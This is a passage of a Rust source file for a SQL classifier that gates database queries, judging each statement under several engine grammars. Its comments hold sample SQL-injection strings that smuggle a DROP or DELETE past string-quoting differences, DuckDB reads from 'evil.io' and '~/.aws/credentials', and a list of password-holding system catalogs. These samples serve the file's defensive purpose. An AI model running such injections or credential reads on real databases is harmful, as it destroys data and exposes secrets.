//! SQL statement classification for the `db.query` normalizer.
//!
//! The text is read the way the database will read it: tokenized and parsed
//! with `sqlparser` under the grammar of the engine the tool talks to, or,
//! when the engine is not known, under every engine it could be (Postgres,
//! MySQL, SQLite, SQL Server) — the most dangerous reading wins, since an
//! attacker picks the reading that hides a statement from the gate (`\'`
//! ends a string in one engine and not in another, `$$` quotes only in
//! Postgres, `#` comments only in MySQL, `/*! … */` runs only in MySQL).
//!
//! Every statement of a call is classified, and every statement nested in
//! one (a data-modifying CTE, `EXPLAIN ANALYZE`, `PREPARE`); every function
//! called anywhere is looked up in a table of functions with side effects
//! (files, network, processes, extensions, settings, other sessions). A
//! WHERE clause is folded as a constant expression: one every row meets
//! (`1=1 AND 2=2`, `2>1`, `NOT 0`, `'a'='a'`, `x = x`, `… OR 1=1`) is no
//! WHERE at all; so is a comparison whose columns cancel by arithmetic
//! (`id * 0 = 0`, `id + 1 > id`) and an OR chain holding a disjunct and its
//! negation (`id = 1 OR … OR id <> 1`).
//!
//! Whatever cannot be placed escalates as `other`: a statement no engine's
//! grammar parses, an unknown statement, a text longer than [`max_len`]
//! (256 KiB in one grammar, 64 KiB in four), nested deeper than
//! [`MAX_DEPTH`] or with more than [`MAX_OPERATORS`] operators in a
//! statement ("too large to classify"). The cost is linear in the text: the
//! tokenizer is, the nesting and operator limits are checked on the tokens
//! before the parser runs (so no tree deeper than they allow is built), and
//! the parser's recursion is bounded too.
//!
//! Each text is analysed once per bind: the five builtins that read a
//! statement (`sql_kind`, `sql_class`, …) share one analysis through a
//! one-entry per-thread cache keyed by the text and the engine.

use sqlparser::ast::{
    BinaryOperator, CopyTarget, Expr, FromTable, FunctionArg, FunctionArgExpr, FunctionArguments,
    InTarget, MergeAction, MergeClauseKind, ObjectName, ObjectNamePart, Query, Select, SelectItem,
    SetExpr, Statement, TableFactor, TableWithJoins, UnaryOperator, UpdateTableFromKind, Value,
    Visit, Visitor,
};
use sqlparser::dialect::{
    BigQueryDialect, Dialect, MsSqlDialect, MySqlDialect, PostgreSqlDialect, SQLiteDialect,
    SnowflakeDialect,
};
use sqlparser::parser::{Parser, ParserOptions};
use sqlparser::tokenizer::{Token, Tokenizer, Whitespace};
use std::cell::RefCell;
use std::ops::ControlFlow;
use std::rc::Rc;

pub mod fast;

/// Bytes read across all readings of a text: a text longer than this
/// (256 KiB read as one engine, 64 KiB read as four) is not classified —
/// `other`, escalated "too large to classify". The parser takes about
/// 0.1 µs a byte, so every text is decided within tens of milliseconds.
pub const MAX_LEN: usize = 256 << 10;

/// The longest text classified when read as `engine` (every engine: `None`).
pub fn max_len(engine: Option<Engine>) -> usize {
    match engine {
        Some(_) => MAX_LEN,
        None => MAX_LEN / ANY_ENGINE.len(),
    }
}
/// Parentheses (and `[`/`{`) nested deeper than this: `other`, escalated.
pub const MAX_DEPTH: usize = 24;
/// Operators in one statement beyond this: `other`, escalated. A chain of
/// `a OR b OR …` parses to a tree as deep as it is long, which the
/// parser's recursion limit does not see.
pub const MAX_OPERATORS: usize = 512;

/// What a statement does, from least to most dangerous.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Class {
    Read,
    Control,
    Write,
    Schema,
    Other,
    Privilege,
    Destructive,
}

impl Class {
    pub fn name(self) -> &'static str {
        match self {
            Class::Read => "read",
            Class::Control => "control",
            Class::Write => "write",
            Class::Schema => "schema",
            Class::Other => "other",
            Class::Privilege => "privilege",
            Class::Destructive => "destructive",
        }
    }
}

/// The classification of a whole text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Analysis {
    pub class: Class,
    /// `db.query.statement_kind`: select, insert, update, delete, ddl, other.
    pub kind: &'static str,
    /// Some statement deletes or overwrites rows, drops or runs code.
    pub destructive: bool,
    /// The deciding statement has a (non-trivial) top-level WHERE.
    pub has_where: bool,
    pub tables: Vec<String>,
    /// Why the text was not classified (too large, too deep), if it was not.
    pub unclassified: Option<&'static str>,
}

impl Analysis {
    fn unclassified(why: &'static str) -> Analysis {
        Analysis {
            class: Class::Other,
            kind: "other",
            destructive: false,
            has_where: false,
            tables: Vec::new(),
            unclassified: Some(why),
        }
    }
}

/// The database engines whose grammar the classifier knows.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Engine {
    Postgres,
    MySql,
    Sqlite,
    MsSql,
    BigQuery,
    Snowflake,
}

/// The readings of a text whose engine is unknown.
const ANY_ENGINE: &[Engine] = &[
    Engine::Postgres,
    Engine::MySql,
    Engine::Sqlite,
    Engine::MsSql,
];

static POSTGRES: PostgreSqlDialect = PostgreSqlDialect {};
static MYSQL: MySqlDialect = MySqlDialect {};
static SQLITE: SQLiteDialect = SQLiteDialect {};
static MSSQL: MsSqlDialect = MsSqlDialect {};
static BIGQUERY: BigQueryDialect = BigQueryDialect {};
static SNOWFLAKE: SnowflakeDialect = SnowflakeDialect {};

impl Engine {
    /// `postgres`, `MySQL`, `mariadb`, `sqlite3`, `sqlserver`, … ; any other
    /// name is not known, and the text is read under every engine.
    pub fn from_name(name: &str) -> Option<Engine> {
        const NAMES: &[(&str, Engine)] = &[
            ("postgres", Engine::Postgres),
            ("postgresql", Engine::Postgres),
            ("pg", Engine::Postgres),
            ("redshift", Engine::Postgres),
            ("cockroachdb", Engine::Postgres),
            ("mysql", Engine::MySql),
            ("mariadb", Engine::MySql),
            ("sqlite", Engine::Sqlite),
            ("sqlite3", Engine::Sqlite),
            ("mssql", Engine::MsSql),
            ("sqlserver", Engine::MsSql),
            ("sql_server", Engine::MsSql),
            ("tsql", Engine::MsSql),
            ("azuresql", Engine::MsSql),
            ("bigquery", Engine::BigQuery),
            ("snowflake", Engine::Snowflake),
        ];
        let name = name.trim();
        NAMES
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, e)| *e)
    }

    fn dialect(self) -> &'static dyn Dialect {
        match self {
            Engine::Postgres => &POSTGRES,
            Engine::MySql => &MYSQL,
            Engine::Sqlite => &SQLITE,
            Engine::MsSql => &MSSQL,
            Engine::BigQuery => &BIGQUERY,
            Engine::Snowflake => &SNOWFLAKE,
        }
    }
}

/// One classified statement.
#[derive(Clone, Copy, Debug)]
struct Stmt {
    class: Class,
    kind: &'static str,
    has_where: bool,
}

impl Stmt {
    fn max_other(self) -> Stmt {
        if self.class < Class::Other {
            Stmt::new(Class::Other, "other")
        } else {
            self
        }
    }

    fn new(class: Class, kind: &'static str) -> Stmt {
        Stmt {
            class,
            kind,
            has_where: false,
        }
    }
}

#[derive(Default)]
struct Found {
    stmts: Vec<Stmt>,
    tables: Vec<String>,
    unclassified: Option<&'static str>,
}

impl Found {
    fn table(&mut self, name: String) {
        if !name.is_empty() && !self.tables.contains(&name) {
            self.tables.push(name);
        }
    }
}

/// The last text analysed on a thread: its engine, text and analysis.
type Cached = (Option<Engine>, Rc<str>, Rc<Analysis>);

thread_local! {
    static ANALYSES: std::cell::Cell<u64> = const { std::cell::Cell::new(0) };
    static LAST: RefCell<Option<Cached>> = const { RefCell::new(None) };
}

/// The analysis of `src` read as `engine` (every engine when `None`),
/// shared by the builtins of one bind: the last text analysed on this
/// thread is kept.
pub fn analyze_for(src: &str, engine: Option<Engine>) -> Rc<Analysis> {
    if src.len() > max_len(engine) {
        return Rc::new(Analysis::unclassified("too large to classify"));
    }
    let hit = LAST.with(|l| {
        l.borrow()
            .as_ref()
            .and_then(|(e, text, a)| (*e == engine && **text == *src).then(|| Rc::clone(a)))
    });
    if let Some(a) = hit {
        return a;
    }
    let a = Rc::new(compute(src, engine));
    LAST.with(|l| *l.borrow_mut() = Some((engine, Rc::from(src), Rc::clone(&a))));
    a
}

/// The analysis of `src`, computed afresh (for benchmarks and tests).
pub fn analyze_uncached(src: &str, engine: Option<Engine>) -> Analysis {
    compute(src, engine)
}

/// The analysis of `src` by the full reading alone (`sqlparser` under each
/// engine's grammar), without the [`fast`] path: the reference the fast
/// path is tested against.
pub fn analyze_full(src: &str, engine: Option<Engine>) -> Analysis {
    if src.len() > max_len(engine) {
        return Analysis::unclassified("too large to classify");
    }
    compute_full(src, engine)
}

/// The analysis of `src` under every engine's reading.
pub fn analyze(src: &str) -> Analysis {
    (*analyze_for(src, None)).clone()
}

/// How many texts this thread has analysed (not served from the cache).
pub fn analyses() -> u64 {
    ANALYSES.with(|c| c.get())
}

fn compute(src: &str, engine: Option<Engine>) -> Analysis {
    ANALYSES.with(|c| c.set(c.get() + 1));
    if src.len() > max_len(engine) {
        return Analysis::unclassified("too large to classify");
    }
    if let Some(q) = summarized(src) {
        return compute_full(&q, engine);
    }
    // The common shapes, read once for every engine; anything else (or
    // anything the fast grammar is unsure of) by the full reading.
    if let Some(a) = fast::analyze(src, engine) {
        return a;
    }
    compute_full(src, engine)
}

/// Round 21: DuckDB's `SUMMARIZE t` / `SUMMARIZE SELECT …` computes
/// statistics over what `SELECT * FROM t` / the query reads, and nothing
/// else: it is read as that query (its relations, files and URLs judged
/// as the query's are; a statement after it as itself). Other engines
/// refuse the word. Only a leading `SUMMARIZE` followed by a space is
/// rewritten, once.
fn summarized(src: &str) -> Option<String> {
    let t = src.trim_start();
    let head = t.get(..9)?;
    if !head.eq_ignore_ascii_case("summarize") {
        return None;
    }
    let rest = t.get(9..)?;
    if !rest.starts_with(|c: char| c.is_ascii_whitespace()) {
        return None;
    }
    let rest = rest.trim_start();
    let starts = |w: &str| {
        rest.get(..w.len())
            .is_some_and(|h| h.eq_ignore_ascii_case(w))
            && rest
                .get(w.len()..)
                .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_whitespace() || c == '('))
    };
    if starts("summarize") || rest.is_empty() {
        return None;
    }
    if starts("select") || starts("with") || starts("from") || rest.starts_with('(') {
        return Some(rest.to_string());
    }
    Some(format!("SELECT * FROM {rest}"))
}

fn compute_full(src: &str, engine: Option<Engine>) -> Analysis {
    if let Some(q) = summarized(src) {
        return compute_full(&q, engine);
    }
    let engines: &[Engine] = match &engine {
        Some(e) => std::slice::from_ref(e),
        None => ANY_ENGINE,
    };
    let mut found = Found::default();
    let mut readings = Vec::with_capacity(engines.len());
    let mut default_readings = 0;
    for e in engines {
        if let Some(r) = read(src, *e, engines.len() > 1, &mut found) {
            readings.push(r);
            default_readings += 1;
        }
        // The same engine under the server setting that ends strings
        // elsewhere: both readings count, the worse one wins.
        if let Some(other) = other_setting(src, *e) {
            if let Some(r) = read(&other, *e, engines.len() > 1, &mut found) {
                readings.push(r);
            }
        }
    }
    // A text no engine reads with its default settings is `other` as it
    // was, beside whatever a setting's reading finds: a second reading only
    // ever adds.
    if default_readings == 0 && !readings.is_empty() {
        found.stmts.push(Stmt::new(Class::Other, "other"));
    }
    let read_any = !readings.is_empty();
    // A statement one grammar refuses counts as `other` — unless another
    // engine tokenized the text into the very same tokens and parsed them:
    // then the engines see the same statements, and the refusal is a gap in
    // the grammar (`?` placeholders, `LIMIT 10, 20`), not a divergence an
    // attacker could hide a statement in.
    if readings.iter().any(|r| !r.failed.is_empty()) {
        let signatures: Vec<Option<u64>> = readings.iter().map(signature).collect();
        let parsed: Vec<u64> = readings
            .iter()
            .zip(&signatures)
            .filter(|(r, _)| r.failed.is_empty())
            .filter_map(|(_, s)| *s)
            .collect();
        for (r, s) in readings.into_iter().zip(signatures) {
            if s.is_some_and(|s| parsed.contains(&s)) {
                continue;
            }
            found.stmts.extend(r.failed);
        }
    }
    // The first statement of the most dangerous class decides.
    let mut worst: Option<&Stmt> = None;
    for s in &found.stmts {
        if worst.is_none_or(|w| s.class > w.class) {
            worst = Some(s);
        }
    }
    match worst {
        Some(w) if read_any => Analysis {
            class: w.class,
            kind: w.kind,
            destructive: found.stmts.iter().any(|s| s.class == Class::Destructive),
            has_where: w.has_where,
            tables: found.tables,
            unclassified: found.unclassified,
        },
        // No engine reads the text, or it holds no statement: not a
        // statement this classifier knows.
        _ => Analysis {
            tables: found.tables,
            ..Analysis::unclassified(found.unclassified.unwrap_or("no statement"))
        },
    }
}

/// `src` rewritten so that `engine`'s tokenizer reads it as the engine does
/// under the other value of a server setting that moves where a string
/// ends, or `None` when the setting cannot matter:
/// - MySQL reads `\` as an escape in strings unless `NO_BACKSLASH_ESCAPES`
///   is set (and `ANSI_QUOTES` makes `"…"` a name, read without escapes):
///   `SELECT 'a\' ; DROP TABLE users; -- '` is one string by default and a
///   DROP under the setting. Every backslash doubled reads, under the
///   default tokenizer, as the setting does (outside strings a backslash
///   is no token MySQL runs).
/// - Postgres reads `\'` in a plain string as a quote only with
///   `standard_conforming_strings = off`: `SELECT 'a\' , '; DROP TABLE
///   users; -- '` reads as two strings by default and as a DROP with the
///   setting off. `\'` written as `''` (and `\\` kept) reads, under the
///   default tokenizer, as the setting off does; in `E'…'` and `$$…$$` the
///   two mean the same.
///
/// Only texts with a backslash (before a quote, for Postgres) are read twice.
fn other_setting(src: &str, engine: Engine) -> Option<String> {
    match engine {
        Engine::MySql if src.contains('\\') => Some(src.replace('\\', "\\\\")),
        Engine::Postgres if src.contains("\\'") => {
            let mut out = String::with_capacity(src.len());
            let mut chars = src.chars();
            while let Some(c) = chars.next() {
                if c != '\\' {
                    out.push(c);
                    continue;
                }
                match chars.next() {
                    Some('\'') => out.push_str("''"),
                    Some(n) => {
                        out.push(c);
                        out.push(n);
                    }
                    None => out.push(c),
                }
            }
            Some(out)
        }
        _ => None,
    }
}

/// One engine's reading of a text: the statements its grammar refused, and
/// (when there are other readings to compare with) its tokens.
struct Reading {
    failed: Vec<Stmt>,
    tokens: Option<Vec<Token>>,
}

/// A hash of a reading's tokens as written, whitespace and comments aside.
fn signature(r: &Reading) -> Option<u64> {
    use std::hash::{Hash, Hasher};
    let tokens = r.tokens.as_ref()?;
    let mut h = std::collections::hash_map::DefaultHasher::new();
    for t in tokens.iter().filter(|t| !matches!(t, Token::Whitespace(_))) {
        t.to_string().hash(&mut h);
    }
    Some(h.finish())
}

/// Reads `src` as `engine` would, adding the statements it parses to
/// `found`. `None` when the engine's tokenizer refuses the text (an
/// unterminated string or comment) before its first `;`: the engine runs
/// nothing of it. Postgres and SQL Server read a whole batch before running
/// any of it, so a refusal anywhere runs nothing; MySQL and SQLite read and
/// run one statement at a time, so the statements before the one refused
/// have run by then: `SELECT 'a\''; DELETE FROM users; --'` deletes in
/// MySQL, where the trailing `--'` (no comment without a space) is an
/// unterminated string. Those statements are read, and the rest counts as
/// `other`.
fn read(src: &str, engine: Engine, compare: bool, found: &mut Found) -> Option<Reading> {
    let dialect = engine.dialect();
    let mut tokens = match Tokenizer::new(dialect, src).tokenize() {
        Ok(t) => t,
        Err(_) if matches!(engine, Engine::MySql | Engine::Sqlite) => {
            let mut buf = Vec::new();
            let _ = Tokenizer::new(dialect, src).tokenize_with_location_into_buf(&mut buf);
            let last = buf.iter().rposition(|t| t.token == Token::SemiColon)?;
            let mut ran: Vec<Token> = buf.into_iter().take(last + 1).map(|t| t.token).collect();
            if ran
                .iter()
                .all(|t| matches!(t, Token::Whitespace(_) | Token::SemiColon))
            {
                return None;
            }
            // The statement refused, in place of what follows it.
            ran.push(Token::make_word("REFUSED", None));
            ran
        }
        Err(_) => return None,
    };
    if engine == Engine::MySql {
        // MariaDB runs `/*M! … */` like MySQL's `/*! … */` (which the
        // tokenizer already expands).
        if tokens
            .iter()
            .any(|t| matches!(t, Token::Whitespace(Whitespace::MultiLineComment(c)) if c.starts_with("M!")))
        {
            let mut out = Vec::with_capacity(tokens.len());
            for t in tokens {
                match t {
                    Token::Whitespace(Whitespace::MultiLineComment(c)) if c.starts_with("M!") => {
                        let inner = c
                            .get(2..)
                            .unwrap_or("")
                            .trim_start_matches(|d: char| d.is_ascii_digit());
                        out.extend(Tokenizer::new(dialect, inner).tokenize().ok()?);
                        out.push(Token::Whitespace(Whitespace::Space));
                    }
                    t => out.push(t),
                }
            }
            tokens = out;
        }
    }
    // Nesting is checked on the tokens, so the parser never meets it.
    let mut depth = 0usize;
    for t in &tokens {
        match t {
            Token::LParen | Token::LBracket | Token::LBrace => {
                depth += 1;
                if depth > MAX_DEPTH {
                    found.stmts.push(Stmt::new(Class::Other, "other"));
                    found.unclassified = Some("too deeply nested to classify");
                    return Some(Reading {
                        failed: Vec::new(),
                        tokens: None,
                    });
                }
            }
            Token::RParen | Token::RBracket | Token::RBrace => depth = depth.saturating_sub(1),
            // Clauses the grammar may not model but the engine runs:
            // `SELECT … INTO OUTFILE`, `LOAD DATA INFILE`.
            Token::Word(w) if w.quote_style.is_none() => {
                let v = w.value.to_ascii_uppercase();
                if matches!(v.as_str(), "OUTFILE" | "DUMPFILE" | "INFILE") {
                    found.stmts.push(Stmt::new(Class::Privilege, "other"));
                }
            }
            _ => {}
        }
    }
    // Each statement is parsed alone, so one the grammar refuses does not
    // hide the others: the engine runs them one after another.
    let options = ParserOptions::new()
        .with_trailing_commas(false)
        .with_unescape(true);
    let options = ParserOptions {
        // T-SQL runs `SELECT 1 DROP TABLE t` as two statements.
        require_semicolon_stmt_delimiter: engine != Engine::MsSql,
        ..options
    };
    let mut failed = Vec::new();
    for chunk in tokens.split(|t| *t == Token::SemiColon) {
        if chunk.iter().all(|t| matches!(t, Token::Whitespace(_))) {
            continue;
        }
        if operators(chunk) > MAX_OPERATORS {
            found.stmts.push(unparsed(chunk).max_other());
            found.unclassified = Some("too large to classify");
            continue;
        }
        let parsed = Parser::new(dialect)
            .with_options(options.clone())
            .with_recursion_limit(MAX_DEPTH * 4)
            .with_tokens(chunk.to_vec())
            .parse_statements();
        match parsed {
            Ok(stmts) if !stmts.is_empty() => {
                for s in &stmts {
                    classify(s, found);
                }
            }
            // Not a statement this grammar knows: unknown is not safe.
            _ => failed.push(unparsed(chunk)),
        }
    }
    Some(Reading {
        failed,
        tokens: compare.then_some(tokens),
    })
}

/// Tokens that join expressions or queries into a chain: every operator,
/// and the keywords that act as one.
fn operators(chunk: &[Token]) -> usize {
    chunk
        .iter()
        .filter(|t| match t {
            Token::Whitespace(_)
            | Token::Number(..)
            | Token::SingleQuotedString(_)
            | Token::DoubleQuotedString(_)
            | Token::NationalStringLiteral(_)
            | Token::EscapedStringLiteral(_)
            | Token::DollarQuotedString(_)
            | Token::Comma
            | Token::Period
            | Token::LParen
            | Token::RParen => false,
            Token::Word(w) => {
                use sqlparser::keywords::Keyword as W;
                w.quote_style.is_none()
                    && matches!(
                        w.keyword,
                        W::AND
                            | W::OR
                            | W::XOR
                            | W::NOT
                            | W::IS
                            | W::IN
                            | W::LIKE
                            | W::ILIKE
                            | W::RLIKE
                            | W::REGEXP
                            | W::SIMILAR
                            | W::BETWEEN
                            | W::UNION
                            | W::INTERSECT
                            | W::EXCEPT
                            | W::MINUS
                            | W::COLLATE
                            | W::AT
                            | W::DIV
                            | W::MOD
                            | W::ESCAPE
                    )
            }
            _ => true,
        })
        .count()
}

/// SQLite pragmas that only describe the schema or check it.
fn describing_pragma(name: &str) -> bool {
    matches!(
        name,
        "table_info"
            | "table_xinfo"
            | "table_list"
            | "index_info"
            | "index_xinfo"
            | "index_list"
            | "foreign_key_list"
            | "foreign_key_check"
            | "integrity_check"
            | "quick_check"
            | "function_list"
            | "pragma_list"
            | "collation_list"
            | "database_list"
            | "compile_options"
    )
}

/// Pragmas that, given no value, only report (round 20): SQLite's
/// settings read back and DuckDB's reports. A pragma without a value is
/// not a read by its shape: SQLite's `optimize`, `incremental_vacuum`,
/// `wal_checkpoint` and `shrink_memory` act, and every DuckDB pragma is a
/// procedure call (`PRAGMA enable_profiling`, `force_checkpoint`,
/// `enable_checkpoint_on_shutdown`).
fn reporting_pragma(name: &str) -> bool {
    describing_pragma(name)
        || matches!(
            name,
            "application_id"
                | "auto_vacuum"
                | "automatic_index"
                | "busy_timeout"
                | "cache_size"
                | "cache_spill"
                | "data_version"
                | "encoding"
                | "foreign_keys"
                | "freelist_count"
                | "journal_mode"
                | "journal_size_limit"
                | "locking_mode"
                | "max_page_count"
                | "mmap_size"
                | "module_list"
                | "page_count"
                | "page_size"
                | "query_only"
                | "read_uncommitted"
                | "recursive_triggers"
                | "secure_delete"
                | "synchronous"
                | "temp_store"
                | "user_version"
                | "wal_autocheckpoint"
                | "show_tables"
                | "show_tables_expanded"
                | "show_databases"
                | "database_size"
                | "version"
                | "platform"
                | "user_agent"
                | "metadata_info"
                | "functions"
                | "collations"
        )
}

/// A statement the grammar does not parse: `other`, or what its leading
/// words say when that is worse (`DROP …`, `GRANT …`, `CREATE USER …`);
/// its WHERE, if any, is not trusted.
fn unparsed(chunk: &[Token]) -> Stmt {
    let words: Vec<String> = chunk
        .iter()
        .filter(|t| !matches!(t, Token::Whitespace(_)))
        .take(4)
        .map(|t| match t {
            Token::Word(w) if w.quote_style.is_none() => w.value.to_ascii_uppercase(),
            _ => String::new(),
        })
        .collect();
    let first = words.first().map(String::as_str).unwrap_or("");
    let principal = words
        .iter()
        .skip(1)
        .any(|w| matches!(w.as_str(), "USER" | "ROLE" | "LOGIN"));
    // `PRAGMA table_info(users)`: the grammar wants a literal in the
    // parentheses, SQLite takes a name.
    let significant: Vec<&Token> = chunk
        .iter()
        .filter(|t| !matches!(t, Token::Whitespace(_)))
        .collect();
    if let [Token::Word(p), Token::Word(n), Token::LParen, Token::Word(_) | Token::SingleQuotedString(_), Token::RParen] =
        significant.as_slice()
    {
        if p.value.eq_ignore_ascii_case("pragma")
            && describing_pragma(&n.value.to_ascii_lowercase())
        {
            return Stmt::new(Class::Read, "other");
        }
    }
    match first {
        "DROP" | "TRUNCATE" | "PURGE" => Stmt::new(Class::Destructive, "ddl"),
        "DELETE" => Stmt::new(Class::Destructive, "delete"),
        "UPDATE" => Stmt::new(Class::Destructive, "update"),
        "GRANT" | "REVOKE" | "DENY" => Stmt::new(Class::Privilege, "other"),
        "CREATE" | "ALTER" if principal => Stmt::new(Class::Privilege, "ddl"),
        _ => Stmt::new(Class::Other, "other"),
    }
}

fn classify(s: &Statement, found: &mut Found) {
    // `EXPLAIN` without `ANALYZE` only plans the statement; `EXPLAIN
    // (ANALYZE …)` runs it, whatever the option's argument says.
    if let Statement::Explain {
        analyze: false,
        statement,
        options,
        ..
    } = s
    {
        let runs = options.as_ref().is_some_and(|o| {
            o.iter()
                .any(|u| u.name.value.eq_ignore_ascii_case("analyze"))
        });
        if runs {
            let _ = s.visit(&mut Walker { found });
            return;
        }
        let mut inner = Found::default();
        classify(statement, &mut inner);
        let kind = inner.stmts.first().map(|s| s.kind).unwrap_or("other");
        found.stmts.push(Stmt::new(Class::Read, kind));
        for t in inner.tables {
            found.table(t);
        }
        return;
    }
    let _ = s.visit(&mut Walker { found });
}

struct Walker<'a> {
    found: &'a mut Found,
}

impl Visitor for Walker<'_> {
    type Break = ();

    fn pre_visit_statement(&mut self, s: &Statement) -> ControlFlow<()> {
        self.found.stmts.push(statement(s));
        match s {
            Statement::Drop { names, .. } => {
                for n in names {
                    self.found.table(object_name(n));
                }
            }
            Statement::Truncate(t) => {
                for n in &t.table_names {
                    self.found.table(object_name(&n.name));
                }
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, s: &Select) -> ControlFlow<()> {
        // `SELECT … INTO new_table` creates and fills a table.
        if s.into.is_some() {
            self.found.stmts.push(Stmt::new(Class::Write, "insert"));
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, name: &ObjectName) -> ControlFlow<()> {
        // Catalogs that hold password hashes and connection secrets.
        let parts = n_parts(name);
        let last = parts.last().map(String::as_str).unwrap_or("");
        let schema = parts.len().checked_sub(2).and_then(|i| parts.get(i));
        let secret = matches!(
            last,
            "pg_shadow"
                | "pg_authid"
                | "pg_user_mapping"
                | "pg_user_mappings"
                | "sql_logins"
                | "syslogins"
                | "sysxlogins"
                | "linked_logins"
                // connection strings with passwords: a subscription's
                // `subconninfo`, MySQL's replication source settings
                | "pg_subscription"
        ) || (last == "user" && schema.is_some_and(|s| s == "mysql"))
            || (matches!(
                last,
                "slave_master_info" | "replication_connection_configuration"
            ) && schema.is_some_and(|s| s == "mysql"));
        if secret {
            self.found.stmts.push(Stmt::new(Class::Privilege, "select"));
        }
        // Round 19: DuckDB reads a quoted name that is a path or a URL as
        // that file (`FROM 'https://evil.io/x.parquet'`, `FROM
        // '/home/dev/.aws/credentials'`: a replacement scan).
        if let Some(path) = file_relation(name) {
            if !workspace_file(&path) {
                self.found.stmts.push(Stmt::new(Class::Other, "other"));
            }
        }
        self.found.table(object_name(name));
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, t: &TableFactor) -> ControlFlow<()> {
        // Table functions: `SELECT * FROM dblink(…)`, `FROM pg_ls_dir(…)`.
        match t {
            TableFactor::Table {
                name,
                args: Some(a),
                ..
            } => self.called(name, &a.args),
            TableFactor::Function { name, args, .. } => self.called(name, args),
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
        if let Expr::Function(f) = e {
            match &f.args {
                FunctionArguments::List(l) => self.called(&f.name, &l.args),
                _ => self.called(&f.name, &[]),
            }
        }
        ControlFlow::Continue(())
    }
}

impl Walker<'_> {
    /// A function called anywhere (`SELECT f(…)`, `FROM f(…)`): its class
    /// from the table of side effects; one the classifier does not know may
    /// be the database's own code (`SELECT purge_accounts()`), whose effect
    /// cannot be read from the call.
    fn called(&mut self, name: &ObjectName, args: &[FunctionArg]) {
        // Round 19: DuckDB's file readers (`read_csv`, `read_parquet`,
        // `read_text`, `glob`, …) read a file of the workspace, or fetch a
        // URL, read a key under ~, reach S3: a read only when every file
        // named is a plain path inside the workspace.
        if let [n] = n_parts(name).as_slice() {
            if FILE_READERS.binary_search(&n.as_str()).is_ok() {
                if !reads_workspace_files(args) {
                    self.found.stmts.push(Stmt::new(Class::Other, "other"));
                }
                return;
            }
        }
        if let Some(c) = function_class(name) {
            self.found.stmts.push(Stmt::new(c, "other"));
        } else if !known_read_function(name) {
            self.found.stmts.push(Stmt::new(Class::Other, "other"));
        }
    }
}

/// `INSERT INTO FUNCTION f(…)` (ClickHouse: a write through a table
/// function), however a grammar without it reads the text: as a table
/// function, or as a table named by the bare word `FUNCTION` (or `TABLE`,
/// of `INSERT INTO TABLE FUNCTION`) that no engine has.
fn insert_into_function(t: &sqlparser::ast::TableObject) -> bool {
    use sqlparser::ast::TableObject;
    match t {
        TableObject::TableFunction(_) => true,
        TableObject::TableName(n) => matches!(n.0.as_slice(),
            [ObjectNamePart::Identifier(id)] if id.quote_style.is_none()
                && (id.value.eq_ignore_ascii_case("function") || id.value.eq_ignore_ascii_case("table"))),
        _ => false,
    }
}

/// DuckDB's functions that read the files named by their first argument (a
/// path, a glob, a URL or a list of them), sorted.
const FILE_READERS: &[&str] = &[
    "glob",
    "parquet_metadata",
    "parquet_scan",
    "parquet_schema",
    "read_blob",
    "read_csv",
    "read_csv_auto",
    "read_json",
    "read_json_auto",
    "read_json_objects",
    "read_ndjson",
    "read_ndjson_auto",
    "read_parquet",
    "read_text",
    "sniff_csv",
];

/// The first argument of a file reader names only workspace files: a
/// string literal or a list of them, each a [`workspace_file`]. Anything
/// else (a column, a concatenation, a URL) may name any file.
fn reads_workspace_files(args: &[FunctionArg]) -> bool {
    let literal = |e: &Expr| match e {
        Expr::Value(v) => match &v.value {
            sqlparser::ast::Value::SingleQuotedString(p) => workspace_file(p),
            _ => false,
        },
        _ => false,
    };
    match args.first() {
        Some(FunctionArg::Unnamed(FunctionArgExpr::Expr(e))) => match e {
            Expr::Array(a) => !a.elem.is_empty() && a.elem.iter().all(literal),
            e => literal(e),
        },
        _ => false,
    }
}

/// A relation named by one quoted part that reads as a file: single quotes
/// (a string where a name goes is DuckDB's replacement scan), or double
/// quotes around something with a slash, a colon, a `~`, a `*` or a file
/// extension.
fn file_relation(name: &ObjectName) -> Option<String> {
    let [ObjectNamePart::Identifier(id)] = name.0.as_slice() else {
        return None;
    };
    let v = &id.value;
    let file_like = v.contains(['/', '\\', ':', '~', '*'])
        || v.rsplit_once('.').is_some_and(|(_, ext)| {
            !ext.is_empty() && ext.len() <= 8 && ext.bytes().all(|b| b.is_ascii_alphanumeric())
        });
    match id.quote_style {
        Some('\'') => Some(v.clone()),
        Some('"') | Some('`') if file_like => Some(v.clone()),
        _ => None,
    }
}

/// A path a local engine reads inside the workspace: relative, no `..`, no
/// scheme or drive (`s3://`, `https://`, `C:`), no `~` or variable, and no
/// file that holds secrets by its name (`.env`, keys).
fn workspace_file(p: &str) -> bool {
    !p.is_empty()
        && !p.starts_with(['/', '\\', '~'])
        && !p.contains([':', '$', '\0'])
        && !p.split(['/', '\\']).any(|seg| seg == "..")
        && !crate::paths::sensitive(p)
}

/// `Public.Users` → `public.users`; quoted parts as written.
fn object_name(n: &ObjectName) -> String {
    let mut out = String::new();
    for (i, p) in n.0.iter().enumerate() {
        if i > 0 {
            out.push('.');
        }
        match p {
            ObjectNamePart::Identifier(id) if id.quote_style.is_none() => {
                out.push_str(&id.value.to_lowercase())
            }
            ObjectNamePart::Identifier(id) => out.push_str(&id.value),
            other => out.push_str(&other.to_string().to_lowercase()),
        }
    }
    out
}

/// Functions with effects beyond reading rows, wherever they are called
/// (`SELECT f(…)`, `FROM f(…)`, `CALL f(…)`, `EXEC f …`), by the last part
/// of their name, lowercase; Oracle's packages by their first part.
fn function_class(name: &ObjectName) -> Option<Class> {
    let parts: Vec<String> = n_parts(name);
    let last = parts.last().map(String::as_str).unwrap_or("");
    let first = parts.first().map(String::as_str).unwrap_or("");
    if first.starts_with("utl_") || first.starts_with("dbms_") || last == "httpuritype" {
        // Oracle: network, files, jobs, dynamic SQL.
        return Some(Class::Privilege);
    }
    Some(match last {
        // Run a program or arbitrary SQL the gate cannot see, or write
        // files on the server.
